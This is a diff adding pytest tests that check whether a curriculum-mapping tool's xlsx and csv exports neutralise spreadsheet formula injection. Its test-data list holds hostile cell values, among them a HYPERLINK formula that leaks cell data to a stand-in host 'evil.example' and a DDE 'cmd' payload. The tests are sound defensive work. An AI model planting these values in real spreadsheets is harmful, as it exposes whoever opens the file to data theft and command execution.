@@ -91,3 +91,49 @@ def test_a_sheet_without_the_mapping_tab(tmp_path):
 
     with pytest.raises(SheetError, match="no sheet called “KSB mapping”"):
         mapping_sheet.from_xlsx(table_xlsx(pd.DataFrame({"a": [1]}), "Other", {}), "other.xlsx")
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
+           "=cmd|' /C calc'!A0", "'already quoted", "  padded  ", "<script>alert(1)</script>"]
+
+
+def _formula_cells(blob):
+    book = load_workbook(io.BytesIO(blob))  # not data_only: a formula would show as one
+    return [(ws.title, c.coordinate, c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "f"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_in_every_field_is_exported_as_text_and_reopens_unchanged(text):
+    from htq.coverage import Evidence, MappingRow
+    from htq.programme import Module
+
+    module = Module(code=f"{text}M1", title=f"{text} title", level=4, credits=20, core=True,
+                    outcomes=(f"{text} outcome", "second outcome"), assessment=f"{text} assessment")
+    row = MappingRow("ST0116", "1.1", "knowledge", "K1", f"{text} statement", "partial", "full",
+                     (Evidence(module.code, f"{text} outcome", 0.61),), 0.61, "high", decision=coverage.CHANGED,
+                     notes=f"{text} note", decided_by=f"{text} name", decided_at="2026-12-02 10:00 UTC")
+    blob = mapping_sheet.to_xlsx(f"{text} programme", [row], [module], {"Snapshot": "2026-07-06"})
+    assert _formula_cells(blob) == []
+    restored = mapping_sheet.from_xlsx(blob, "ksb-mapping.xlsx")
+    assert restored.programme == f"{text} programme"
+    assert restored.modules == (module,)
+    assert restored.rows == (row,)
+
+
+def test_every_export_writes_text_as_text():
+    import pandas as pd
+
+    from htq import report
+
+    frame = pd.DataFrame({"Title": HOSTILE, "Level": range(len(HOSTILE))})
+    assert _formula_cells(report.table_xlsx(frame, "Standards", {"Note": HOSTILE[0]})) == []
+    assert _formula_cells(report.committee_xlsx({"Summary": frame}, frame, frame, {"Note": HOSTILE[0]})) == []
+    import csv
+
+    rows = list(csv.reader(io.StringIO(report.table_csv(frame).decode("utf-8-sig"), newline="")))
+    cells = [r[0] for r in rows[1:]]
+    assert len(cells) == len(HOSTILE)
+    for cell, text in zip(cells, HOSTILE):  # OWASP: a cell a spreadsheet would read as a formula gets a quote
+        assert cell == ("'" + text if text.startswith(report.FORMULA_STARTS) else text)
+    assert report.csv_cell(-2) == -2 and report.csv_cell("plain") == "plain" and report.csv_cell("=1") == "'=1"
